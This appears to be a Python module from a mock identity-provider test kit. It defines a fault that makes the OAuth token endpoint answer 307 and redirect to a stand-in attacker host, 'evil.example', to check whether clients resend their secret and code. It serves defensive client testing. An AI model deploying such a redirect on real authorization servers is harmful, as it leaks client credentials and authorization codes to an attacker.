"""The token endpoint sends the request elsewhere."""

from starlette.types import ASGIApp

from mock_idps.core import transport
from mock_idps.core.fault import Fault

AWAY = transport.fixed(307, b"", {"Location": "https://evil.example/token"})


class RedirectedToken(Fault):
    """Answers 307 to the attacker's site, where a client that follows would repeat secret and code."""

    breaks = "RFC 9700, 4.12: a credential must not be sent on"

    def transport(self, app: ASGIApp) -> ASGIApp:
        """What is told instead."""
        return transport.instead(app, "token", AWAY)


FAULT = RedirectedToken()
